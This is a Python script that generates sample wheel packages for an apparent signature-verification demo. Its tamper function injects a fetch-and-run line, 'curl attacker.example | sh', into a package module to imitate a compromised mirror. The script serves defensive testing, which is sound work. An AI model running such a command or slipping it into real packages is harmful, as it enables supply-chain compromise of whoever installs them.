"""Write small, real wheels for the demo (and anyone who wants sample input).

Usage: make_sample_wheels.py OUT_DIR NAME==VERSION[;signing-keys=URL] [...]
Each wheel has a package module, METADATA, WHEEL and a correct RECORD, written with zipfile
the way setuptools does. `;signing-keys=URL` adds `Project-URL: Signing keys, URL` to METADATA
(what `[project.urls] "Signing keys" = URL` in pyproject.toml produces). Prints the paths written.
"""
import base64
import hashlib
import sys
import zipfile
from pathlib import Path


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def write_wheel(out: Path, name: str, version: str, signing_keys: str | None = None) -> Path:
    module = name.replace("-", "_")
    files = {
        f"{module}/__init__.py": f'"""{name} {version}: a sample package for the wheelsig demo."""\n__version__ = "{version}"\n'.encode(),
        f"{module}/core.py": b"def greet(who: str) -> str:\n    return f'hello, {who}'\n",
    }
    dist_info = f"{module}-{version}.dist-info"
    urls = f"Project-URL: Signing keys, {signing_keys}\n" if signing_keys else ""
    files[f"{dist_info}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: wheelsig demo package\n{urls}".encode()
    files[f"{dist_info}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: wheelsig-demo\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = "".join(f"{p},sha256={b64(hashlib.sha256(b).digest())},{len(b)}\n" for p, b in files.items())
    record += f"{dist_info}/RECORD,,\n"
    path = out / f"{module}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for p, b in files.items():
            z.writestr(zipfile.ZipInfo(p, date_time=(2026, 1, 1, 0, 0, 0)), b, compress_type=zipfile.ZIP_DEFLATED)
        z.writestr(zipfile.ZipInfo(f"{dist_info}/RECORD", date_time=(2026, 1, 1, 0, 0, 0)), record, compress_type=zipfile.ZIP_DEFLATED)
    return path


def tamper(src: Path, dst: Path) -> Path:
    """Copy a wheel, changing one module but keeping RECORD: what a compromised mirror serves."""
    dst.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.endswith("/core.py"):
                data = b"import os\nos.system('curl attacker.example | sh')\n" + data
            zout.writestr(info, data)
    return dst


if __name__ == "__main__":
    out = Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    for spec in sys.argv[2:]:
        if spec.startswith("tamper:"):
            src, dst = spec[len("tamper:"):].split("=>")
            print(tamper(Path(src), Path(dst)))
        else:
            spec, _, option = spec.partition(";")
            name, version = spec.split("==")
            keys = option.removeprefix("signing-keys=") if option.startswith("signing-keys=") else None
            if option and keys is None:
                sys.exit(f"unknown option {option!r} (only signing-keys=URL)")
            print(write_wheel(out, name, version, keys))
